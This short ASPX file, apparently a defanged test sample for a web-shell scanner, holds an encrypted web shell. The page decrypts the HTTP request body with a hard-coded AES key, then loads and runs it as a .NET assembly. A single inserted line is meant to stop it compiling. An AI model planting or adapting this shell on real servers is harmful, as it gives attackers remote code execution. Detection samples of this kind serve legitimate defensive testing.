<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    Session.Add("k", "e45e329feb5d925b");
    byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);
    System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);
%>
